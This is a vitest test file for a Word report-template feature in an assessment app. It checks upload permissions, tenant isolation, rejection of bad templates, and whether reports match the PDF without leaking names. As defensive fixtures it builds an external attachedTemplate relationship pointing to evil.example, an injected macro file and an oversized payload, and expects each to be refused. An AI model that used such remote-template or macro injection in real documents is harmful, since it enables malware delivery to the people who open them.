// @module-tag soak
import { calls, DOCX_TYPE, type WordProblems } from "@assay/contract";
import { REPORT_FIELDS, type TemplateFields } from "@assay/domain";
import {
  buildReportedRun,
  buildReportingTenant,
  buildTenant,
  buildUser,
  changedWord,
  dayFromNow,
  releaseFeedback,
  startTestServer,
  type TestServer,
  type TestTenant,
  type TestUser,
  textOfPdf,
  textOfWord,
  unzip,
  visitByHand,
  wordByLibreOffice,
  wordOf,
  writeFeedback,
} from "@assay/testing";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";

let server: TestServer;
let tenant: TestTenant;
let admin: TestUser;
let sample: Buffer;
beforeAll(async () => {
  server = await startTestServer(inject("postgresUrl"), { leavesPdf: true, leavesPlans: true });
  tenant = await buildReportingTenant(server);
  admin = await buildUser(tenant, "administrator");
  sample = await admin.bytes(calls.getWordTemplateSample);
});
afterAll(() => server.close());
beforeEach(() => admin.ok(calls.removeWordTemplate));

const fileOf = (bytes: Buffer, name = "report.docx") => ({
  file: { name, bytes, type: DOCX_TYPE },
});
const upload = (bytes: Buffer) => admin.ok(calls.uploadWordTemplate, fileOf(bytes));
const problemsOf = async (bytes: Buffer) => {
  const { types, payload } = await admin.refused(calls.uploadWordTemplate, fileOf(bytes));
  expect(types).toEqual(["BAD_REQUEST"]);
  return (payload as WordProblems).problems;
};
const audited = async (action: string, subjectId: string) => {
  const { rows } = await server.owner.withTenant(tenant.id, (tx) =>
    tx.db.execute(
      `select actor_id, details from audit_log where action = '${action}' and subject_id = '${subjectId}' order by at`,
    ),
  );
  return rows;
};

/** Every name in the template of a list of fields, with those of its lists. */
const namesOf = (fields: TemplateFields): string[] =>
  Object.entries(fields).flatMap(([name, field]) =>
    typeof field === "object" ? [name, ...namesOf(field)] : [name],
  );
const plain = (text: string): string =>
  text.replaceAll(/\u00AD\s*/g, "").replaceAll(/[\s\u200B]+/g, " ");

describe("a template in Word", () => {
  it("is uploaded, fetched as it was, replaced and removed by administrators, which is recorded", async () => {
    expect(await admin.ok(calls.getWordTemplate)).toEqual({ template: null });
    expect((await admin.refused(calls.getWordTemplateFile)).types).toEqual(["ITEM_NOT_FOUND"]);
    const { template } = await upload(sample);
    expect(template).toMatchObject({ name: "report.docx", size: sample.length });
    expect((await admin.bytes(calls.getWordTemplateFile)).equals(sample)).toBe(true);
    const other = wordOf(sample, ["{title}"]);
    await upload(other);
    expect((await admin.bytes(calls.getWordTemplateFile)).equals(other)).toBe(true);
    expect(await admin.ok(calls.removeWordTemplate)).toEqual({ template: null });
    await admin.ok(calls.removeWordTemplate);
    const uploads = await audited("tenant.uploadFeedbackTemplate", tenant.id);
    expect(uploads.at(-1)).toMatchObject({ actor_id: admin.user.id });
  });

  it("is nobody else's, and no other tenant's", async () => {
    await upload(sample);
    const moderator = await buildUser(tenant, "moderator");
    const refused = await moderator.refused(calls.uploadWordTemplate, fileOf(sample));
    expect(refused.types).toEqual(["NO_PERMISSION"]);
    expect((await moderator.refused(calls.getWordTemplateFile)).types).toEqual(["NO_PERMISSION"]);
    const elsewhere = await buildUser(await buildTenant(server), "administrator");
    expect(await elsewhere.ok(calls.getWordTemplate)).toEqual({ template: null });
    expect((await elsewhere.refused(calls.getWordTemplateFile)).types).toEqual(["ITEM_NOT_FOUND"]);
    await elsewhere.ok(calls.removeWordTemplate);
    expect((await admin.ok(calls.getWordTemplate)).template).not.toBeNull();
  });

  it("is refused with what is wrong with it, and the one before stays", async () => {
    await upload(sample);
    expect(
      await problemsOf(wordOf(sample, ["Fine.", "{competences} {title}", "{#notes}"])),
    ).toEqual([
      {
        rule: "unknownField",
        about: "{competences}",
        at: { place: "body", paragraph: 2, text: "{competences} {title}" },
      },
      {
        rule: "unclosedBlock",
        about: "{#notes}",
        at: { place: "body", paragraph: 3, text: "{#notes}" },
      },
    ]);
    const zeros = Buffer.alloc(40 * 1024 * 1024);
    const rels = "word/_rels/document.xml.rels";
    const outside = String(unzip(sample)[rels]).replace(
      "</Relationships>",
      '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    );
    for (const [bytes, rule] of [
      [changedWord(sample, { "word/vbaProject.bin": "x" }), "macros"],
      [changedWord(sample, { [rels]: outside }), "external"],
      [changedWord(sample, { "word/media/a.png": zeros }), "tooLarge"],
      [sample.subarray(0, 3000), "corruptFile"],
    ] as const)
      expect((await problemsOf(bytes)).map((problem) => problem.rule)).toEqual([rule]);
    const macros = await admin.refused(calls.uploadWordTemplate, fileOf(sample, "report.docm"));
    expect(macros.errors).toEqual({ file: ["fileType"] });
    const huge = await admin.send(calls.uploadWordTemplate, fileOf(Buffer.alloc(6 * 1024 * 1024)));
    expect(huge.status).toBe(413);
    expect((await admin.bytes(calls.getWordTemplateFile)).equals(sample)).toBe(true);
  });

  it("has a sample that uses every field, and a guide that explains it", async () => {
    const guides = path.join(import.meta.dirname, "../../../../../docs/guides/candidate-pages.md");
    const guide = await readFile(guides, "utf8");
    const parts = ["word/document.xml", "word/header1.xml", "word/footer1.xml"];
    const text = parts.map((part) => textOfWord(sample, part)).join("\n");
    for (const name of namesOf(REPORT_FIELDS)) {
      expect(text).toMatch(new RegExp(`\\{#?${name}\\}`));
      expect(guide).toMatch(new RegExp(`\\{#?${name}\\}`));
    }
    await upload(sample);
  });
});

/** A run, and a report of it with something in every field. */
async function buildReport() {
  const one = await buildReportedRun(tenant);
  const draft = await one.made.moderator.ok(calls.getFeedback, one);
  const [first, ...rest] = draft.content.competencies;
  const [good, bad] = draft.offered[0]!.quotes;
  const quotes = [good!, bad!].map(({ evidenceId, text }) => ({ evidenceId, text }));
  const written = {
    closing: "Alles Gute & viel Erfolg <bald>.\nBis dann {title}.",
    competencies: [
      {
        ...first!,
        statement: "Fragt viel.\n\nHört zu.",
        strength: "Neugier",
        nextStep: "Warten.",
        quotes,
      },
      ...rest.map((other) => ({ ...other, statement: "Denkt mit." })),
    ],
  };
  return { ...one, written };
}

describe("a report in Word", () => {
  it("is not there without a template, and nothing says that it could be", async () => {
    const one = await buildReport();
    const { moderator } = one.made;
    expect(await moderator.ok(calls.getFeedback, one)).not.toHaveProperty("hasWord");
    expect((await moderator.refused(calls.getFeedbackWord, one)).types).toEqual(["ITEM_NOT_FOUND"]);
    await releaseFeedback(moderator, one.key, { until: dayFromNow(server, 5), ...one.written });
    const visitor = await visitByHand(tenant, moderator, one.key);
    expect(await visitor.ok(calls.openFeedback)).not.toHaveProperty("hasWord");
    expect((await visitor.refused(calls.getOwnFeedbackWord)).types).toEqual(["ITEM_NOT_FOUND"]);
    await upload(sample);
    expect(await moderator.ok(calls.getFeedback, one)).toMatchObject({ hasWord: true });
    expect(await visitor.ok(calls.openFeedback)).toMatchObject({ hasWord: true });
  });

  it("says what the PDF says, as a draft and released, and nothing else", async () => {
    await upload(sample);
    const one = await buildReport();
    const { moderator } = one.made;
    const { preview } = await writeFeedback(moderator, one.key, one.written);
    const draft = textOfWord(await moderator.bytes(calls.getFeedbackWord, one));
    expect(draft).toContain("Entwurf");
    const until = dayFromNow(server, 5);
    await releaseFeedback(moderator, one.key, { until, ...one.written });
    const document = await moderator.bytes(calls.getFeedbackWord, one);
    const word = plain(textOfWord(document));
    const pdf = plain(await textOfPdf(await moderator.bytes(calls.getFeedbackPdf, one)));
    const facts = [
      ...preview.introduction,
      ...preview.exercises,
      ...preview.competencies.flatMap((of) => [
        of.name,
        of.description,
        of.result,
        ...of.statement.split("\n"),
        of.strength,
        of.nextStep,
        ...of.quotes.map(({ text }) => text),
      ]),
      ...preview.outcome,
      ...preview.closing.split("\n"),
      ...preview.notes,
    ].filter((text) => text !== "");
    expect(facts.length).toBeGreaterThan(15);
    for (const fact of facts) {
      expect(word).toContain(plain(fact));
      expect(pdf).toContain(plain(fact));
    }
    // Word by word, a report in Word has nothing that the PDF has not.
    const saidByPdf = new Set(pdf.split(" "));
    const [organisation] = [(await admin.ok(calls.getTenant)).appTitle];
    const more = word.split(" ").filter((said) => !saidByPdf.has(said));
    expect(more.filter((said) => !organisation.includes(said) && said !== "·")).toEqual([]);
    expect(textOfWord(document)).toContain("Fragt viel.\n\nHört zu.");
    expect(textOfWord(document)).toContain("Alles Gute & viel Erfolg <bald>.\nBis dann {title}.");
  });

  it("names nobody else in any part of it, nor who made the template, and neither do page and PDF", async () => {
    const marked = changedWord(sample, {
      "docProps/core.xml": String(unzip(sample)["docProps/core.xml"]).replace(
        "</cp:coreProperties>",
        "<dc:creator>Vorlage Autorin</dc:creator><cp:lastModifiedBy>Vorlage Autorin</cp:lastModifiedBy></cp:coreProperties>",
      ),
    });
    await upload(marked);
    const one = await buildReport();
    const { moderator, observers, candidates } = one.made;
    // Everybody else in the run has some of these names, and all of them stand in the notes, the run's name and who talked.
    const planted = Array.from({ length: 200 }, (_, n) => `Zyxplanted${n}q`);
    const others = [moderator.user.id, observers[0]!.user.id, candidates[1]!.id];
    const names = (index: number) =>
      planted.filter((_, n) => n % others.length === index).join(" ");
    await server.owner.withTenant(tenant.id, async (tx) => {
      for (const [index, id] of others.entries())
        await tx.db.execute(
          `update person set last_name = '${names(index)}' where tenant_id = '${tenant.id}' and id = '${id}'`,
        );
      await tx.db.execute(
        `update observation_page set content = content || '<p>${planted.join(" ")}</p>' where tenant_id = '${tenant.id}'`,
      );
      await tx.db.execute(
        `update run set name = '${planted[0]}' || ' ' || name where tenant_id = '${tenant.id}' and id = '${one.key.runId}'`,
      );
    });
    const body = { on: "2026-05-04", with: planted.join(" ").slice(0, 200) };
    await moderator.ok(calls.recordFeedbackTalk, { ...one, body });
    await releaseFeedback(moderator, one.key, { until: dayFromNow(server, 5), ...one.written });
    const visitor = await visitByHand(tenant, moderator, one.key);
    const own = await visitor.bytes(calls.getOwnFeedbackWord);
    const page = await visitor.ok(calls.openFeedback);
    const pdf = await visitor.bytes(calls.getOwnFeedbackPdf);
    const places = {
      ...unzip(own),
      page: JSON.stringify(page),
      "text of the PDF": await textOfPdf(pdf),
      PDF: pdf.toString("latin1"),
    };
    for (const [name, content] of Object.entries(places))
      for (const other of ["Vossberg", candidates[1]!.lastName ?? "", "Autorin", ...planted])
        expect(content.includes(other), `${other} in ${name}`).toBe(false);
    expect(textOfWord(own)).toContain(candidates[0]!.lastName);
    const core = String(unzip(own)["docProps/core.xml"]);
    const { appTitle } = await admin.ok(calls.getTenant);
    expect(core).toContain(`<dc:creator>${appTitle}</dc:creator>`);
    expect(core).toContain(`<cp:lastModifiedBy>${appTitle}</cp:lastModifiedBy>`);
  });

  it("is taken along by its candidate, which is recorded, until the period is over", async () => {
    await upload(sample);
    const one = await buildReport();
    const { moderator, candidates } = one.made;
    await releaseFeedback(moderator, one.key, { until: dayFromNow(server, 5), ...one.written });
    const visitor = await visitByHand(tenant, moderator, one.key);
    const own = await visitor.bytes(calls.getOwnFeedbackWord);
    expect(own.equals(await moderator.bytes(calls.getFeedbackWord, one))).toBe(true);
    const { candidateId } = one.key;
    expect(await audited("candidate.readFeedbackWord", candidateId)).toMatchObject([
      { actor_id: candidateId, details: { version: 1 } },
    ]);
    expect(await audited("candidate.feedbackWord", candidateId)).toMatchObject([
      { actor_id: moderator.user.id, details: { version: 1 } },
    ]);
    const neighbour = { ...one.key, candidateId: candidates[1]!.id };
    const other = await visitByHand(tenant, moderator, neighbour);
    expect((await other.refused(calls.getOwnFeedbackWord)).types).toEqual(["ITEM_NOT_FOUND"]);
    const observer = await one.observer.refused(calls.getFeedbackWord, one);
    expect(observer.types).toEqual(["NO_PERMISSION"]);
    await moderator.ok(calls.withdrawFeedback, one);
    expect((await visitor.refused(calls.getOwnFeedbackWord)).types).toEqual(["ITEM_NOT_FOUND"]);
  });

  it("is opened by LibreOffice, which also saves templates that can be filled", async (context) => {
    const saved = await wordByLibreOffice(sample, "docx");
    if (!saved) return context.skip("LibreOffice is not installed");
    // LibreOffice splits runs, and writes styles and properties of its own.
    await upload(saved);
    const one = await buildReport();
    const { moderator } = one.made;
    await releaseFeedback(moderator, one.key, { until: dayFromNow(server, 5), ...one.written });
    const document = await moderator.bytes(calls.getFeedbackWord, one);
    const printed = await wordByLibreOffice(document, "pdf");
    const text = plain(await textOfPdf(printed!));
    for (const said of ["Fragt viel.", "Hört zu.", "Neugier", "Warten.", "Fragt nach.", "<bald>"])
      expect(text).toContain(said);
    expect(text).toContain("Bis dann {title}.");
    expect(text).not.toMatch(/\{[#/^]|undefined/);
    const again = await wordByLibreOffice(document, "docx");
    expect(plain(textOfWord(again!))).toContain("Fragt viel.");
  }, 120_000);
});
